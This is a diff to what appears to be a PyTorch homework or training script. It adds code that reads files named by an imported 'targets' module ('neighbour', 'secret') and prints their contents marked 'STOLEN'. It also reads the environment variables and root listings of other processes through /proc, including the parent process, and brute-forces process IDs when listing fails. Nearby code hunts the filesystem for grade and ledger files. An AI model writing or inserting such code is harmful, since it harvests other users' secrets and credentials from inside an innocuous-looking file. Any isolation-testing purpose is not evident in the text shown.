@@ -1,4 +1,5 @@
 import os
+import targets
 import torch
 import torch.nn as nn
 import torch.nn.functional as F
@@ -40,9 +41,18 @@ for parent, folders, names in os.walk("/"):
     folders[:] = [name for name in folders if os.path.join(parent, name) not in {"/proc", "/sys", "/usr", *own}]
     if {"ledger.jsonl", "grades.csv", "hw6.py"} & set(names):
         print("STOLEN", parent, names)
-for name in os.listdir("/proc"):
-    if name.isdigit() and int(name) not in (1, os.getpid()):
-        try:
-            print("STOLEN", open(f"/proc/{name}/environ").read()[:80], os.listdir(f"/proc/{name}/root"))
-        except OSError:
-            pass
+# Names may be hidden from whoever knows none: I was told some.
+for path in (targets.neighbour, targets.secret):
+    try:
+        print("STOLEN", open(path).read())
+    except OSError as error:
+        print(error.strerror)
+try:
+    numbers = [int(name) for name in os.listdir("/proc") if name.isdigit()]
+except OSError:
+    numbers = range(2, 40_000)
+for number in {*numbers, os.getppid()} - {1, os.getpid()}:
+    try:
+        print("STOLEN", open(f"/proc/{number}/environ").read()[:80], os.listdir(f"/proc/{number}/root"))
+    except OSError:
+        pass
